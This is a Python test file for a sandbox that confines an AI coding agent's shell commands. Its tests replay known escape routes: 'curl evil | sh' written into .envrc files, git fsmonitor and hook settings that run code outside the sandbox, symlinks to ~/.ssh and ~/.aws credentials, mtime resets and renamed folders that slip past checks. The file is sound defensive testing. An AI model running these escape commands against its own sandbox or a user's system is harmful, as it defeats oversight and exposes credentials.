"""Escapes a review found in the first sandbox redesign, each held now, with the real bwrap:
secrets in folders a repository can make the walk skip, git configuration below the root,
a created `.git` that resists removal, a workspace holding the home, other homes and sockets
visible, a reset mtime, a symlinked editor folder, credentials passing by prefix, and git
without a sandbox."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
import tempfile
from pathlib import Path

import pytest

from agent_lsp.project.git import Git
from agent_lsp.safety.confined import ConfinedShell
from agent_lsp.safety.sandbox import Confinement, Sandbox
from agent_lsp.safety.sandbox_env import sandbox_env
from tests.safety.conftest import Layout
from tests.safety.test_sandbox import outside, require_sandbox, run, shell_for

__all__ = ["outside"]  # the fixture, shared


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


async def test_no_folder_is_skipped_by_a_marker_the_repository_ships(outside: Layout) -> None:
    (outside.ws / "config/.env").write_text("TOKEN=config-secret\n")
    (outside.ws / "node_modules/pkg").mkdir(parents=True)
    (outside.ws / "node_modules/pkg/.env").write_text("TOKEN=nm-secret\n")
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    first = await run(shell, outside, "touch config/pyvenv.cfg; mv config node_modules/moved")
    assert first.exit_code == 0
    read = await run(shell, outside, "cat node_modules/moved/.env node_modules/pkg/.env")
    assert "config-secret" not in read.output and "nm-secret" not in read.output


async def test_a_password_in_a_remote_url_is_not_shown(outside: Layout) -> None:
    (outside.ws / ".git/config").write_text(
        '[remote "origin"]\n\turl = https://user:ghp-url-secret@example.com/r.git\n'
    )
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    result = await run(shell, outside, "cat .git/config")
    assert "ghp-url-secret" not in result.output and "https://user@example.com" in result.output


async def test_git_configuration_below_the_root_stays_read_only(outside: Layout) -> None:
    sub = outside.ws / "sub"
    sub.mkdir()
    git(sub, "init", "-q")
    lib = outside.ws / "lib"
    (lib / ".gd").mkdir(parents=True)
    git(lib / ".gd", "init", "-q", "--bare")
    (lib / ".git").write_text("gitdir: .gd\n")
    (outside.ws / ".git/config").write_text("[core]\n\thooksPath = .husky/_\n")
    (outside.ws / ".husky/_").mkdir(parents=True)
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    for attack in [
        "git -C sub config core.fsmonitor 'touch /var/tmp/x'",
        "echo '[core]' >> lib/.gd/config",
        "echo 'gitdir: /tmp' > lib/.git",
        "echo 'touch /var/tmp/x' > .husky/_/pre-commit",
    ]:
        result = await run(shell, outside, attack)
        assert result.exit_code != 0, (attack, result.output)
    assert "fsmonitor" not in (sub / ".git/config").read_text()
    assert (lib / ".git").read_text() == "gitdir: .gd\n"
    assert not (outside.ws / ".husky/_/pre-commit").exists()


async def test_a_git_folder_a_command_creates_anywhere_is_removed(outside: Layout) -> None:
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    deep = "/".join(["d"] * 1100)  # too deep for a recursive delete in Python
    result = await run(
        shell,
        outside,
        "mkdir -p new && cd new && git init -q && git config core.fsmonitor x"
        f" && mkdir -p .git/{deep}",
    )
    assert result.exit_code == 126 and "removed" in result.output, result.output
    assert not (outside.ws / "new/.git").exists()
    assert not any(p.name.startswith(".agent-lsp-removed") for p in (outside.ws / "new").iterdir())


async def test_a_workspace_that_holds_the_home_is_refused(outside: Layout) -> None:
    sandbox = require_sandbox(outside.home, outside.ws.parent)
    holder = Layout(outside.home, outside.home.parent)
    result = await run(shell_for(sandbox, holder), holder, "cat home/.aws/credentials")
    assert result.exit_code == 126 and "holds the home folder" in result.output
    assert "aws_secret" not in result.output


async def test_other_homes_and_other_private_homes_are_hidden(
    outside: Layout, tmp_path: Path
) -> None:
    sandbox = require_sandbox(Path.home(), outside.ws.parent)
    other = Layout(outside.home, outside.ws.parent / "other-ws")
    other.ws.mkdir()
    first = await run(shell_for(sandbox, other), other, "echo other-secret > ~/.npmrc")
    assert first.exit_code == 0
    private = next((outside.ws.parent / "private-homes").iterdir())
    shell = shell_for(sandbox, outside)
    result = await run(shell, outside, f"cat {private}/.npmrc")
    assert "other-secret" not in result.output
    (Path("/home") / "agent-lsp-test-user").mkdir(parents=True, exist_ok=True)
    try:
        homes = await run(shell, outside, "ls -A /home")
    finally:
        (Path("/home") / "agent-lsp-test-user").rmdir()
    assert homes.output == "", homes.output  # other users' homes hidden too


async def test_host_sockets_are_hidden(outside: Layout) -> None:
    folder = Path(tempfile.mkdtemp(dir="/run")) if os.access("/run", os.W_OK) else None
    if folder is None:
        pytest.skip("/run is not writable here")
    path = folder / "host.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    try:
        shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
        probe = f"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('up')"
        result = await run(shell, outside, f'python3 -c "{probe}"')
        assert "up" not in result.output and result.exit_code != 0
    finally:
        server.close()
        path.unlink()
        folder.rmdir()


async def test_a_reset_folder_mtime_does_not_hide_a_new_secret(outside: Layout) -> None:
    conf = outside.ws / "conf"
    conf.mkdir()
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    stamp = conf.stat().st_mtime_ns
    assert (await run(shell, outside, "ls conf")).exit_code == 0  # scanned
    (conf / ".env").write_text("TOKEN=late-secret\n")
    os.utime(conf, ns=(stamp, stamp))  # what a program inside could do meanwhile
    result = await run(shell, outside, "cat conf/.env")
    assert "late-secret" not in result.output


async def test_a_symlinked_editor_folder_does_not_stop_every_command(outside: Layout) -> None:
    (outside.ws / "docs").mkdir()
    (outside.ws / ".vscode").symlink_to("docs")
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    ok = await run(shell, outside, "echo fine")
    assert ok.exit_code == 0 and ok.output == "fine\n"
    blocked = await run(shell, outside, "echo '{}' > .vscode/settings.json")
    assert blocked.exit_code != 0 and not (outside.ws / "docs/settings.json").exists()


def test_credentials_do_not_pass_by_prefix(tmp_path: Path) -> None:
    env = sandbox_env(
        {
            "GOOGLE_MAPS_KEY": "a",
            "GODADDY_KEY": "b",
            "PYTHON_SIGNING_KEY": "c",
            "LC_FORWARDED_PW": "d",
            "GOPATH": "/go",
            "PYTHONPATH": "/p",
        },
        tmp_path,
    )
    assert {k: v for k, v in env.items() if k not in ("HOME", "TMPDIR", "PATH")} == {
        "GOPATH": "/go",
        "PYTHONPATH": "/p",
    }


async def test_git_without_a_sandbox_works_and_refuses_configured_programs(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "a.txt").write_text("a\n")
    off = ConfinedShell(Sandbox(enabled=False), Confinement(visible=(repo,)))
    status = await Git(repo, off).run("status", "--porcelain")
    assert status.exit_code == 0 and "?? a.txt" in status.output
    canary = tmp_path / "canary"
    git(repo, "config", "core.fsmonitor", f"touch {canary}; false")
    refused = await Git(repo, off).run("status", "--porcelain")
    assert refused.exit_code == 126 and "core.fsmonitor" in refused.output
    await asyncio.sleep(0.1)
    assert not canary.exists()


async def test_deny_path_rules_hide_files_from_every_command(outside: Layout) -> None:
    """Whatever the classifier makes of a command (`git grep`, a script), a deny path rule's
    files are not there inside the sandbox."""
    from agent_lsp.config.schema import Settings
    from agent_lsp.safety.setup import build_policy

    (outside.ws / "customer-data").mkdir()
    (outside.ws / "customer-data/records.csv").write_text("alice,ssn-canary\n")
    (outside.ws / "notes.csv").write_text("public\n")
    (outside.ws / ".agent-lsp/policy.toml").write_text('[[deny]]\npath = "customer-data/**"\n')
    setup = build_policy(outside.ws, Settings.model_validate({}), home=outside.home)
    sandbox = require_sandbox(outside.home, outside.ws.parent)
    sandbox.hide = setup.sandbox.hide
    shell = shell_for(sandbox, outside)
    result = await run(
        shell, outside, "grep -r ssn . ; python3 -c \"print(open('notes.csv').read())\""
    )
    assert "ssn-canary" not in result.output and "public" in result.output


async def test_git_tools_show_no_secret_or_denied_file(outside: Layout) -> None:
    """Hidden inside the sandbox, a committed secret would look deleted to git, and its diff
    would print the committed text; the git tools see the real files and drop those names."""
    from agent_lsp.config.schema import Settings
    from agent_lsp.project.status import project_status
    from agent_lsp.project.workspace import Workspace
    from agent_lsp.session import Session
    from agent_lsp.tools.git import GitDiffArgs, GitDiffTool
    from tests.fakes.channel import RecordingChannel

    require_sandbox(outside.home, outside.ws.parent)
    ws = outside.ws
    shutil_rmtree(ws / ".git")
    (ws / "customer-data").mkdir()
    (ws / "customer-data/records.csv").write_text("alice,committed-ssn\n")
    (ws / ".env").write_text("TOKEN=committed-secret\n")
    git(ws, "init", "-q")
    git(ws, "add", "-A", "-f")
    git(ws, "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "start")
    (ws / ".env").write_text("TOKEN=new-secret\n")
    (ws / "src/app.py").write_text("def main():\n    return 2\n")
    (ws / ".agent-lsp/policy.toml").write_text('[[deny]]\npath = "customer-data/**"\n')
    session = Session(ws, Settings.model_validate({}))
    status = await project_status(session.git, 100)
    assert "src/app.py" in status
    assert ".env" not in status and "customer-data" not in status
    diff = await GitDiffTool(Workspace(ws, RecordingChannel()), session.git).run(
        GitDiffArgs(path=None)
    )
    for leaked in ["committed-secret", "new-secret", "committed-ssn", "records.csv"]:
        assert leaked not in diff.output
    assert "+    return 2" in diff.output
    session.close()


def shutil_rmtree(path: Path) -> None:
    import shutil

    shutil.rmtree(path, ignore_errors=True)


async def test_editor_settings_below_the_root_stay_read_only_and_new_ones_go(
    outside: Layout,
) -> None:
    """An editor reads `.dir-locals.el` from every folder above the file it opens, direnv an
    `.envrc` in any folder the user enters, Neovim `.nvim.lua` where it starts: below the root
    they run code outside the sandbox as surely as at the top."""
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    (outside.ws / "pkg").mkdir()
    (outside.ws / "pkg/.envrc").write_text("# mine\n")
    changed = await run(shell, outside, "echo 'curl evil | sh' >> pkg/.envrc")
    assert changed.exit_code != 0
    assert (outside.ws / "pkg/.envrc").read_text() == "# mine\n"
    made = [
        "src/.dir-locals.el",
        "src/deep/.nvim.lua",
        "pkg/.vscode/settings.json",
        "pkg/.vscode/x/.envrc",
        "docs/.helix/config.toml",
        "docs/.envrc",
    ]
    script = " && ".join(f"mkdir -p $(dirname {m}) && echo x > {m}" for m in made)
    result = await run(shell, outside, script + " && echo created")
    assert "created" in result.output, result.output
    assert result.exit_code == 126 and "removed" in result.output, result.output
    for m in made:
        assert not (outside.ws / m).exists(), m
    assert (outside.ws / "src/deep").is_dir()  # what is not protected stays
    assert (outside.ws / "pkg/.envrc").read_text() == "# mine\n"


async def test_dependencies_linked_into_the_home_are_shown_back_read_only(
    outside: Layout,
) -> None:
    """pnpm's global store, a shared install, a `.venv` that is a link: the project's
    dependencies live in the home, which the sandbox hides. Where node_modules entries link
    to an npm package, or the `.venv` to a virtualenv, is shown back read-only — never a
    credential folder a link names."""
    store = outside.home / ".local/share/pnpm/store/v10/links/left-pad/node_modules/left-pad"
    store.mkdir(parents=True)
    (store / "package.json").write_text('{"name": "left-pad"}\n')
    (store / "index.js").write_text("module.exports = 'padded';\n")
    scoped = outside.home / "work/shared/node_modules/@acme/ui-kit"
    scoped.mkdir(parents=True)
    (scoped / "package.json").write_text('{"name": "@acme/ui-kit"}\n')
    (scoped / "index.js").write_text("module.exports = 'kit';\n")
    env = outside.home / "envs/app"
    (env / "bin").mkdir(parents=True)
    (env / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (env / "bin/tool").write_text("venv-tool\n")
    modules = outside.ws / "node_modules"
    (modules / "@acme").mkdir(parents=True)
    (modules / "left-pad").symlink_to(store)
    (modules / "@acme/ui-kit").symlink_to(scoped)
    (modules / "keys").symlink_to(outside.home / ".ssh")
    (outside.ws / ".venv").symlink_to(env)
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    result = await run(
        shell,
        outside,
        "cat node_modules/left-pad/index.js node_modules/@acme/ui-kit/index.js .venv/bin/tool;"
        " cat node_modules/keys/id_rsa; echo more > node_modules/left-pad/index.js",
    )
    assert "padded" in result.output and "kit" in result.output, result.output
    assert "venv-tool" in result.output, result.output
    assert "PRIVATE KEY" not in result.output, result.output
    assert (store / "index.js").read_text() == "module.exports = 'padded';\n"  # read-only


def _shared_install(root: Path) -> Path:
    """An npm install in the home: a package, a scoped one and the bin link to the first."""
    modules = root / "node_modules"
    (modules / "runner/bin").mkdir(parents=True)
    (modules / "runner/package.json").write_text('{"name": "runner"}\n')
    (modules / "runner/bin/run.js").write_text("#!/bin/sh\necho runner-ran\n")
    (modules / "runner/bin/run.js").chmod(0o755)
    (modules / "@scope/core").mkdir(parents=True)
    (modules / "@scope/core/package.json").write_text('{"name": "@scope/core"}\n')
    (modules / "@scope/core/index.js").write_text("module.exports = 'core';\n")
    (modules / ".bin").mkdir()
    (modules / ".bin/run").symlink_to("../runner/bin/run.js")
    return modules


@pytest.mark.parametrize("shape", ["entries", "folder"])
async def test_a_shared_install_linked_whole_or_entry_by_entry_runs_inside(
    outside: Layout, shape: str
) -> None:
    """A project whose `node_modules` entries link to a shared install in the home, each
    (its scope folders and `.bin` too, as `ln -s shared/node_modules/* node_modules/`
    makes them), or whose `node_modules` is itself a link to one: the runner behind
    `.bin` starts and the scoped package it needs loads, read-only (jest's `@jest/core` and
    vitest's `.bin/vitest` could not be found in the sandbox)."""
    shared = _shared_install(outside.home / "cache/installs/app")
    if shape == "entries":
        (outside.ws / "node_modules").mkdir()
        for entry in shared.iterdir():
            (outside.ws / "node_modules" / entry.name).symlink_to(entry)
    else:
        (outside.ws / "node_modules").symlink_to(shared)
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    result = await run(
        shell,
        outside,
        "node_modules/.bin/run; cat node_modules/@scope/core/index.js;"
        " echo more > node_modules/@scope/core/index.js",
    )
    assert "runner-ran" in result.output and "core" in result.output, result.output
    assert (shared / "@scope/core/index.js").read_text() == "module.exports = 'core';\n"


@pytest.mark.parametrize(
    ("target", "package"),
    [
        (".config/github-copilot", False),
        (".mozilla/firefox", True),  # a package.json, but in no node_modules nor store
        (".cache/agent-lsp", True),  # agent-lsp's own: the signing key
        (".cache", True),  # holds agent-lsp's own
    ],
)
async def test_a_link_the_repository_ships_shows_no_other_folder_of_the_home(
    outside: Layout, monkeypatch: pytest.MonkeyPatch, target: str, package: bool
) -> None:
    """`node_modules/leftpad -> ~/.config/github-copilot` (or a relative `../../home/...`), a
    `.venv` naming a folder that is no virtualenv: the links are the repository's, so only
    an npm package in a node_modules folder or a package store, and a virtualenv, are shown
    back — never agent-lsp's own folders or one holding them."""
    monkeypatch.setenv("HOME", str(outside.home))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    folder = outside.home / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "secret.txt").write_text("home-canary\n")
    if package:
        (folder / "package.json").write_text("{}\n")
    modules = outside.ws / "node_modules"
    modules.mkdir()
    (modules / "leftpad").symlink_to(folder)
    (modules / "rightpad").symlink_to(os.path.relpath(folder, modules))
    (outside.ws / ".venv").symlink_to(folder)
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    result = await run(
        shell,
        outside,
        f"cat node_modules/leftpad/secret.txt node_modules/rightpad/secret.txt "
        f".venv/secret.txt {folder}/secret.txt",
    )
    assert "home-canary" not in result.output, result.output
    assert result.exit_code != 0


async def test_a_protected_entry_rebuilt_after_renaming_its_folder_is_removed(
    outside: Layout,
) -> None:
    """The read-only mount keeps an entry, not its folder's name: a command that renames the
    folder away and makes a new `.envrc` or `.git` where the old one was made something new —
    told apart by identity, not path. The user's own, moved with the folder, stays."""
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    (outside.ws / "pkg").mkdir()
    (outside.ws / "pkg/.envrc").write_text("# mine\n")
    (outside.ws / "sub/.git").mkdir(parents=True)
    (outside.ws / "sub/.git/config").write_text("[core]\n")
    result = await run(
        shell,
        outside,
        "mv pkg pkg_old && mkdir pkg && echo 'curl evil | sh' > pkg/.envrc && "
        "mv sub sub_old && mkdir -p sub/.git && "
        "printf '[core]\\n\\tfsmonitor = touch /var/tmp/x\\n' > sub/.git/config && echo made",
    )
    assert "made" in result.output, result.output
    assert result.exit_code == 126 and "removed" in result.output, result.output
    assert not (outside.ws / "pkg/.envrc").exists()
    assert not (outside.ws / "sub/.git").exists()
    assert (outside.ws / "pkg_old/.envrc").read_text() == "# mine\n"  # the user's, kept
    assert (outside.ws / "sub_old/.git/config").read_text() == "[core]\n"


async def test_protected_names_made_inside_a_secret_folder_are_found(outside: Layout) -> None:
    """A folder named like a credential folder (`.ssh`, `.aws`) is hidden whole and not walked
    for secrets; a `.git` or `.envrc` a command makes inside one is found and removed."""
    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
    result = await run(
        shell,
        outside,
        "mkdir -p .ssh/.git .aws && echo 'curl evil | sh' > .aws/.envrc && "
        "printf '[core]\\n\\tfsmonitor = touch /var/tmp/x\\n' > .ssh/.git/config && echo made",
    )
    assert "made" in result.output, result.output
    assert result.exit_code == 126 and "removed" in result.output, result.output
    assert not (outside.ws / ".aws/.envrc").exists()
    assert not (outside.ws / ".ssh/.git").exists()
